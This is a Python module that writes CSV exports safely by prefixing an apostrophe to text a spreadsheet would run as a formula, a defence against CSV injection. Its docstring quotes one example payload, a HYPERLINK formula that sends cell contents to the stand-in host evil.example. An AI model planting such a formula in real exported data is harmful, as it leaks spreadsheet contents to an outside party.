"""The one CSV writer of every export: spreadsheets never run an exported value as a formula.

A spreadsheet opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some run one that
starts with a tab or carriage return) as a formula: ``=HYPERLINK("http://evil.example/?"&A1, "click")`` in a
partner's name would leak the sheet when someone clicks it (OWASP "CSV injection"). Every export writes through
``writer()``, which puts an apostrophe before such text; a value that is a number (``-12.5``, ``+3``) stays as
it is, so figures keep their sign. Imports drop the apostrophe again (``register/io/tabular.unprotect``), so an
export edited and imported round-trips exactly.
"""

from __future__ import annotations

import csv
import io
import math
from collections.abc import Iterable, Iterator
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def protect(value: Any) -> Any:
    """The value, with an apostrophe first when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _is_number(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are protected cell by cell."""

    def __init__(self, out: _Writable, *, lineterminator: str = "\n", delimiter: str = ",") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator, delimiter=delimiter)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row."""
        self._writer.writerow([protect(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write many rows."""
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` whose values are protected."""

    def __init__(self, out: _Writable, fieldnames: list[str], *, lineterminator: str = "\n") -> None:
        self.fieldnames = fieldnames
        self._writer = SafeWriter(out, lineterminator=lineterminator)

    def writeheader(self) -> None:
        """Write the field names."""
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: dict[str, Any]) -> None:
        """Write one row (missing keys are empty cells)."""
        self._writer.writerow(["" if row.get(f) is None else row.get(f) for f in self.fieldnames])

    def writerows(self, rows: Iterable[dict[str, Any]]) -> None:
        """Write many rows."""
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, *, lineterminator: str = "\n", delimiter: str = ",") -> SafeWriter:
    """A protected CSV writer on a text stream."""
    return SafeWriter(out, lineterminator=lineterminator, delimiter=delimiter)


def dict_writer(out: _Writable, fieldnames: list[str], *, lineterminator: str = "\n") -> SafeDictWriter:
    """A protected CSV dict writer on a text stream."""
    return SafeDictWriter(out, fieldnames, lineterminator=lineterminator)


def to_text(rows: Iterable[Iterable[Any]], *, lineterminator: str = "\n", bom: bool = False) -> str:
    """Rows as one protected CSV text."""
    buffer = io.StringIO()
    if bom:
        buffer.write("\ufeff")
    writer(buffer, lineterminator=lineterminator).writerows(rows)
    return buffer.getvalue()


def stream(
    rows: Iterable[Iterable[Any]], *, lineterminator: str = "\r\n", bom: bool = True, chunk: int = 500
) -> Iterator[str]:
    """Protected CSV text chunk by chunk (for streamed downloads); UTF-8 BOM first so spreadsheets see UTF-8."""
    buffer = io.StringIO()
    out = writer(buffer, lineterminator=lineterminator)
    if bom:
        buffer.write("\ufeff")
    for count, row in enumerate(rows, start=1):
        out.writerow(row)
        if count % chunk == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()
